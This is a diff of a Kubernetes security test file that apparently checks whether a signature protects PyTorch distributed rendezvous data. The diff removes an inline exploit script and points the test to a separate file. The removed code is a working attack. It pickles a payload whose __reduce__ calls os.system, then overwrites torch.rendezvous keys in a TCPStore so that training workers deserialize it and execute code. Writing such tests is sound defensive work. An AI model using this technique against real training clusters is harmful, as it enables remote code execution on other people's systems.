@@ -4,36 +4,14 @@ The test cluster's network enforces no policies: only the signature protects the
 """
 
 import json
-import textwrap
+from pathlib import Path
 
 import pytest
 import yaml
 
 pytestmark = pytest.mark.kubernetes
 
-ATTACK = """
-import base64, datetime, os, pickle, sys, time
-from torch.distributed import TCPStore
-
-class Payload:
-    def __reduce__(self):
-        return os.system, ("id > /var/run/rightsizer/owned",)
-
-value = base64.b64encode(pickle.dumps(Payload())).decode()
-until, overwritten = time.monotonic() + 120, 0
-while time.monotonic() < until:
-    try:
-        wait = datetime.timedelta(seconds=5)
-        store = TCPStore(sys.argv[1], 29400, is_master=False, wait_for_workers=False, timeout=wait)
-        for name in store.list_keys():
-            if "torch.rendezvous." in name and "/" not in name.strip("/"):
-                store.set(name.strip("/"), value)
-                overwritten += 1
-                print("overwritten", overwritten, name, flush=True)
-    except Exception as error:
-        print(type(error).__name__, str(error)[:200], flush=True)
-    time.sleep(0.5)
-"""
+ATTACK = Path(__file__).resolve().parents[1] / "rendezvous_attack.py"
 OWNED = "own/var/lib/kubelet/pods/{}/volumes/kubernetes.io~empty-dir/rightsizer-run/owned"
 
 
@@ -47,7 +25,7 @@ def attacker(cluster):
         container = {
             "name": "attacker",
             "image": "ghcr.io/acme/train:1.4",
-            "command": ["python", "-c", textwrap.dedent(ATTACK), host],
+            "command": ["python", str(ATTACK), host, "29400", "/var/run/rightsizer/owned"],
         }
         spec = {"restartPolicy": "Never", "terminationGracePeriodSeconds": 0, "containers": [container]}
         pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "attacker"}, "spec": spec}
